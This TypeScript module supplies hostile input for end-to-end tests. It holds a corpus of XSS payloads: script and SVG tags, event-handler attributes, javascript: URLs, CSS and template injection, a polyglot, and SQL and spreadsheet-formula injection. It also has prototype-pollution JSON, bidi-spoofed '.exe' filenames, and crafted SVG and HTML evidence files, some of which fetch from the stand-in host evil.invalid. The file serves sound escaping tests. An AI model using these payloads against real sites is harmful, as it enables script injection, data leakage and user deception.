/**
 * Hostile text for end-to-end tests: markup, script URLs, CSS, template and
 * markdown payloads, bidi and zero-width tricks, mixed scripts and very long
 * lines. Every active payload does something a test can observe if it ever
 * runs: sets `window.__xss`, opens a dialog (`alert`) or makes a request
 * (`fetch` / a resource URL under `evil.invalid`, which the e2e fixtures
 * fail on). Rendered as text, each must appear exactly as written.
 *
 * The texts stay on one line (no leading/trailing whitespace), so they fit
 * single-line inputs and survive the services' trimming unchanged; `maxLength`
 * fields get only the payloads that fit.
 */
export interface HostilePayload {
  /** Stable, readable id; also the value an active payload writes to `window.__xss`. */
  id: string;
  text: string;
}

const RLO = '\u202E';
const PDF = '\u202C';
const LRI = '\u2066';
const RLI = '\u2067';
const FSI = '\u2068';
const PDI = '\u2069';

export const XSS_CORPUS: readonly HostilePayload[] = [
  { id: 'script-tag', text: `<script>window.__xss='script-tag'</script>` },
  { id: 'script-break-out', text: `"><ScRiPt>alert('script-break-out')</sCrIpT><"` },
  { id: 'img-onerror', text: `<img src=x onerror="window.__xss='img-onerror'">` },
  { id: 'img-remote', text: `<img src="http://evil.invalid/img-remote.png" alt="tracker">` },
  { id: 'svg-onload', text: `<svg/onload=alert('svg-onload')>` },
  { id: 'svg-script', text: `<svg xmlns="http://www.w3.org/2000/svg"><script>window.__xss='svg-script'</script></svg>` },
  { id: 'javascript-url', text: `javascript:window.__xss='javascript-url'//` },
  { id: 'a-href-javascript', text: `<a href="javascript:fetch('http://evil.invalid/a-href')">open file</a>` },
  { id: 'iframe-srcdoc', text: `<iframe srcdoc="<script>parent.__xss='iframe-srcdoc'</script>"></iframe>` },
  { id: 'style-break', text: `</style><style>body{display:none}</style>` },
  { id: 'css-expression', text: `x{width:expression(window.__xss='css-expression')}` },
  { id: 'css-url-javascript', text: `<div style="background:url(javascript:window.__xss='css-url')">bg</div>` },
  { id: 'css-import', text: `<style>@import url(http://evil.invalid/css-import.css);</style>` },
  { id: 'template-constructor', text: `{{constructor.constructor('window.__xss="template-constructor"')()}}` },
  { id: 'template-i18n', text: `$t(app.name) {{name}} {{- value}} \${window.__xss='template-literal'}` },
  { id: 'markdown-link', text: `[click here](javascript:alert('markdown-link'))` },
  { id: 'markdown-image', text: `![x](http://evil.invalid/markdown-image.png)` },
  { id: 'attribute-break', text: `' onmouseover='window.__xss="attribute-break"' autofocus onfocus='alert(1)' x='` },
  { id: 'details-ontoggle', text: `<details open ontoggle="window.__xss='details-ontoggle'"><summary>x</summary></details>` },
  { id: 'meta-refresh', text: `<meta http-equiv="refresh" content="0;url=http://evil.invalid/meta-refresh">` },
  { id: 'object-embed', text: `<object data="javascript:window.__xss='object-embed'"></object><embed src="http://evil.invalid/e">` },
  { id: 'base-href', text: `<base href="http://evil.invalid/"><link rel=stylesheet href=x.css>` },
  {
    id: 'polyglot',
    text: `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert('polyglot') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('polyglot')//>\\x3e`,
  },
  { id: 'html-entities', text: `&lt;script&gt;alert('entities')&lt;/script&gt; &amp;amp; &#x3C;b&#x3E; &#60;i&#62;` },
  { id: 'sql-and-formula', text: `'); DROP TABLE cases;-- =HYPERLINK("http://evil.invalid/csv","x") @SUM(1+1)` },
  { id: 'proto-pollution', text: `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"x":1}}}` },
  { id: 'bidi-override', text: `invoice-${RLO}gpj.exe${PDF} اطلاعات ${RLO}reversed${PDF} end` },
  { id: 'bidi-isolates', text: `${LRI}left-to-right${PDI} ${RLI}عربي טקסט${PDI} ${FSI}first strong${PDI} ${RLO}${LRI}nested${PDI}${PDF}` },
  { id: 'zero-width', text: `Ali\u200BReza\u200C\u200D\u2060x\uFEFFy\u00ADz` },
  { id: 'rtl-cjk-mixed', text: `محمد 王小明 <b>bold</b> ئابدۇرېھىم 123 עברית 李明 (مثال) 東京 ᠮᠣᠩᠭᠣᠯ` },
  { id: 'combining-zalgo', text: `Z\u0337\u0322\u031Ba\u0336l\u0338g\u0335o\u0334 e\u0301 \u1100\u1161 ﬁ ①` },
  { id: 'line-separators', text: `a\u2028b\u2029c \u0085 tab\there` },
];

/** Payloads that fit a field limited to `max` characters. */
export function payloadsFitting(max: number): HostilePayload[] {
  return XSS_CORPUS.filter((p) => p.text.length <= max);
}

/** The payload at `index`, cycling through those that fit `max`. */
export function payloadAt(index: number, max = 200): HostilePayload {
  const fitting = payloadsFitting(max);
  return fitting[index % fitting.length]!;
}

/**
 * One very long unbroken line (about 12,000 characters) of mixed hostile text,
 * for long-text fields (summary, description, notes): tests wrapping and
 * layout as much as escaping.
 */
export function veryLongLine(): string {
  const chunk = XSS_CORPUS.slice(0, 6)
    .map((p) => p.text)
    .join('');
  return `${'W'.repeat(3000)}${chunk}${'漢字'.repeat(1500)}${'ش'.repeat(2000)}${chunk}${'x'.repeat(2500)}`;
}

/**
 * A multi-line hostile text for textareas: newlines between payloads, as a
 * caseworker pasting a suspicious message would produce.
 */
export function multiLine(ids: string[]): string {
  return ids.map((id) => XSS_CORPUS.find((p) => p.id === id)!.text).join('\n');
}

/** Evidence files whose content is active if anything ever renders it. */
export const HOSTILE_FILES = {
  svg: {
    name: `<svg onload=alert('svg-name')>${RLO}gvs.exe${PDF}.svg`,
    type: 'image/svg+xml',
    content:
      `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss='evidence-svg-onload'">\n` +
      `<script>window.__xss='evidence-svg-script';fetch('http://evil.invalid/svg')</script>\n` +
      `<image href="http://evil.invalid/svg-image.png" width="10" height="10"/>\n` +
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe></foreignObject>\n` +
      `<text x="0" y="15">王小明 محمد</text>\n</svg>\n`,
  },
  html: {
    name: `<img src=x onerror=alert('html-name')>report.html`,
    type: 'text/html',
    content:
      `<!doctype html>\n<html><head><meta http-equiv="refresh" content="0;url=http://evil.invalid/html-refresh">\n` +
      `<link rel="stylesheet" href="http://evil.invalid/html.css"><style>body{display:none}</style></head>\n` +
      `<body onload="window.__xss='evidence-html-onload'"><script>alert('evidence-html')</script>\n` +
      `<a href="javascript:window.__xss='evidence-html-link'">click</a> <img src="http://evil.invalid/html.png">\n` +
      `<p>${RLO}txet desrever${PDF} 中文 العربية</p></body></html>\n`,
  },
  text: {
    name: `javascript:alert('text-name')${LRI}notes${PDI}\u200B.txt`,
    type: 'text/plain',
    content: `${XSS_CORPUS.map((p) => p.text).join('\n')}\n`,
  },
} as const;
